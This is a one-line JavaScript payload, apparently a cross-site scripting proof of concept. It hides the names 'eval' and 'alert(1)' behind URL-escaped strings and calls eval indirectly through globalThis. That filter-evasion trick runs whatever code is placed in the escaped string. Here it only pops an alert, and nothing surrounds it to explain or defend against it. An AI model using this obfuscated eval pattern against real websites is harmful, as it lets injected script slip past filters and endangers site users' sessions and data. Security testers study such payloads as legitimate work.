(0, globalThis[unescape('%65%76%61%6c')])(unescape('%61%6c%65%72%74%28%31%29'));
